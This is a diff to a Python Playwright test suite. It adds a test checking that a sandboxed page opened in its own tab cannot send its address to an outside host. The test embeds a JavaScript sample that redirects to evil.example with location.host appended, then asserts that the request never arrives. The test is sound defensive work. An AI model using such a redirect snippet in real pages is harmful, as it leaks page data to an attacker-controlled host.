@@ -153,6 +153,23 @@ class Live(InterfaceCase):
         self.assertEqual(dialogs, [])
         self.assertFalse([url for url in reached if "evil.example" in url])
 
+    def test_a_page_in_a_tab_of_its_own_cannot_carry_its_address_away(self) -> None:
+        away = b"""
+        const far = "https://evil.example/?" + location.host;
+        document.getElementById("words").textContent = typeof RTCPeerConnection;
+        setTimeout(() => { document.getElementById("kept").textContent = "tried"; location.href = far; }, 50);
+        """
+        page = self.recorded(away, "live")
+        address = page.locator("iframe[title='As found']").get_attribute("src") or ""
+        reached: list[str] = []
+        tab = page.context.new_page()
+        tab.on("requestfinished", lambda request: reached.append(request.url))
+        tab.goto(address)
+        expect(tab.frame_locator("iframe").locator("body")).not_to_contain_text("The end")  # it tried, and is gone
+        self.assertTrue(tab.url.startswith("http://found-"))
+        self.assertTrue(any("live.js" in url for url in reached))
+        self.assertFalse([url for url in reached if "evil.example" in url])
+
     def test_one_by_one_by_keys_alone(self) -> None:
         page = self.recorded(SCRIPT, "one")
         expect(page.locator(".decide")).to_contain_text("1 of ")
